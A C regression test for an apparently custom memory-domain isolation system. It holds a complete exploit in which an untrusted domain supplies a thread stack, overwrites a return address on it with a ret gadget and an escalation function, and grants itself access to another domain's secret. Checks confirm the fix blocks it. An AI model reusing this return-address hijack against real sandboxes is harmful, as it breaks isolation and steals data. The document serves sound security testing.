// A thread on a stack of the domain's own (attack round 21): domain
// `zeta`, with no grant, gave pthread_create 1 MiB of its heap as the
// stack (pthread_attr_setstack; the loader checked only that zeta may
// write it). The new thread's start code, glibc's start_thread and the
// loader's start_in_domain, runs uninstrumented as the default domain on
// that stack and calls zeta's routine through the start proxy. The
// routine, as zeta, found start_in_domain's frame there and replaced its
// return address with a `ret` and zeta's pwn(): when the routine returned,
// pwn ran as the default domain, took owner handles of zeta and vault and
// granted zeta vault, whose secret zeta then read. The same round found
// glibc's TCB and static TLS at the stack's top, zeta's to rewrite: the
// thread's locale pointer (snprintf's decimal point became vault's
// secret), its thread-specific values (the loader's alternate-stack
// record, which it then wrote into vault). A first fix asked for pages
// of tag 0, the default domain's: round 22 raced it (the stack unmapped
// and a file mapped there, which zeta also mapped over pages of its own,
// after the check of its rights and before the check of the tags). Now
// only the default domain may name a thread's stack, of pages tagged its
// own (loader/threads.c stack_refusal): zeta's is refused (EPERM, a line
// on stderr), and main's thread on a stack of main's own still runs.
// Control: under `none` zeta steals.
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t -lpthread
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t hijack 2>&1 | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t own 2>&1 | FileCheck %s --check-prefix=OWN
// RUN: %dipc-bin-dir/dipc-run --backend=none %t hijack 2>&1 | FileCheck %s --check-prefix=NONE
// SFI: dipc: sfi: a thread stack named by a domain's code refused
// SFI: zeta's pthread_create: Operation not permitted
// SFI: nothing stolen
// OWN: main's thread ran on main's stack
// NONE: zeta's pthread_create: Success
// NONE: stole 'vault-s'
#define _GNU_SOURCE
#include <dipc.h>
#include <dipc/rt.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char vault_secret[32] __dom("vault") = "vault-secret-42";
const char *vault_address(void) __dom("vault") __entry { return vault_secret; }

#define STACK_SIZE (1 << 20)

// The default domain's, which pwn (running as the default domain) reads.
const char name_vault[] = "vault";
const char name_zeta[] = "zeta";

// Where the loader's and libc's code lie, and a `ret` in the loader's:
// main finds them, zeta keeps a copy.
struct text {
  uintptr_t loader_lo, loader_hi, libc_lo, libc_hi, ret;
};
static struct text text __dom("zeta");
long zeta_learn(uintptr_t loader_lo, uintptr_t loader_hi, uintptr_t libc_lo,
                uintptr_t libc_hi, uintptr_t ret) __dom("zeta") __entry {
  text = (struct text){loader_lo, loader_hi, libc_lo, libc_hi, ret};
  return 0;
}

// Reached by the rewritten return, as the default domain.
__attribute__((noinline, noreturn)) void pwn(void) __dom("zeta") {
  dom_t v = dipc_domain_named(name_vault), z = dipc_domain_named(name_zeta);
  if (v >= 0 && z >= 0)
    grant_create(z, v);
  for (;;)
    sleep(1);
}

static int in(uintptr_t w, uintptr_t lo, uintptr_t hi) {
  return w >= lo && w < hi;
}

static volatile int rewritten __dom("zeta");

// The thread's routine, as zeta: arg is the stack's lowest address. From
// the top down: a return address into the loader's code with arg saved
// right above it is start_in_domain's call of the proxy; the first return
// address into libc's code above it is start_in_domain's own.
static void *routine(void *arg) __dom("zeta") {
  uintptr_t *w = arg;
  size_t n = STACK_SIZE / sizeof *w;
  for (size_t i = n - 24; i-- > 0;) {
    if (!in(w[i], text.loader_lo, text.loader_hi))
      continue;
    int saved_arg = 0;
    for (size_t k = i + 1; k <= i + 8; k++)
      saved_arg |= w[k] == (uintptr_t)arg;
    if (!saved_arg)
      continue;
    for (size_t j = i + 1; j <= i + 16; j++)
      if (in(w[j], text.libc_lo, text.libc_hi)) {
        w[j] = text.ret; // realigns the stack for pwn
        w[j + 1] = (uintptr_t)pwn;
        rewritten = 1;
        return NULL;
      }
  }
  return NULL;
}

static char zeta_loot[32] __dom("zeta");
long zeta_attack(const volatile char *secret) __dom("zeta") __entry {
  void *stack = NULL;
  if (posix_memalign(&stack, 4096, STACK_SIZE) != 0)
    return -1;
  pthread_attr_t attr;
  pthread_attr_init(&attr);
  pthread_attr_setstack(&attr, stack, STACK_SIZE);
  pthread_t t;
  int err = pthread_create(&t, &attr, routine, stack);
  if (err != 0)
    return -err;
  // Until the grant pwn makes lets zeta read vault's page.
  for (int i = 0; i < 500; i++) {
    if (rewritten && dipc_cap_create(0, (const void *)secret, 16,
                                     DIPC_PERM_READ) == 0)
      break;
    usleep(10000);
  }
  dipc_cap_revoke(0);
  if (!rewritten)
    return 1;
  for (int i = 0; i < 31 && (i == 0 || secret[i - 1]); ++i)
    zeta_loot[i] = secret[i];
  return 0;
}

// The first seven bytes of zeta's loot, packed: what main may print.
long zeta_loot_word(void) __dom("zeta") __entry {
  long v = 0;
  memcpy(&v, zeta_loot, 7);
  return v;
}

// The executable mapping holding `at` (the loader maps code anonymously:
// /proc/self/maps names none).
static int mapping_of(uintptr_t at, uintptr_t *lo, uintptr_t *hi) {
  FILE *maps = fopen("/proc/self/maps", "r");
  char line[512];
  *lo = *hi = 0;
  while (maps && fgets(line, sizeof line, maps)) {
    unsigned long a, b;
    char perms[8];
    if (sscanf(line, "%lx-%lx %7s", &a, &b, perms) == 3 && perms[2] == 'x' &&
        at >= a && at < b)
      *lo = a, *hi = b;
  }
  if (maps)
    fclose(maps);
  return *lo ? 0 : -1;
}

// pthread_create is the loader's (it comes first), __libc_start_main libc's.
int __libc_start_main();
static int find_text(struct text *t) {
  if (mapping_of((uintptr_t)&pthread_create, &t->loader_lo, &t->loader_hi) ||
      mapping_of((uintptr_t)&__libc_start_main, &t->libc_lo, &t->libc_hi))
    return -1;
  for (uintptr_t p = t->loader_lo; p < t->loader_hi && !t->ret; p++)
    if (*(const unsigned char *)p == 0xc3)
      t->ret = p;
  return t->ret ? 0 : -1;
}

static void *mine(void *unused) {
  (void)unused;
  printf("main's thread ran on main's stack\n");
  return NULL;
}

int main(int argc, char **argv) {
  if (argc > 1 && !strcmp(argv[1], "own")) {
    void *stack = malloc(STACK_SIZE);
    pthread_attr_t attr;
    pthread_attr_init(&attr);
    pthread_attr_setstack(&attr, stack, STACK_SIZE);
    pthread_t t;
    int err = pthread_create(&t, &attr, mine, NULL);
    if (err == 0)
      pthread_join(t, NULL);
    else
      printf("main's pthread_create: %s\n", strerror(err));
    return err;
  }
  struct text t = {0};
  if (find_text(&t) != 0) {
    printf("cannot find the loader's and libc's code\n");
    return 1;
  }
  zeta_learn(t.loader_lo, t.loader_hi, t.libc_lo, t.libc_hi, t.ret);
  long r = zeta_attack(vault_address());
  printf("zeta's pthread_create: %s\n", strerror(r < 0 ? (int)-r : 0));
  long loot = r == 0 ? zeta_loot_word() : 0;
  if (loot)
    printf("stole '%.7s'\n", (const char *)&loot);
  else
    printf("nothing stolen\n");
  fflush(stdout);
  _exit(0); // the hijacked thread sleeps as the default domain
}
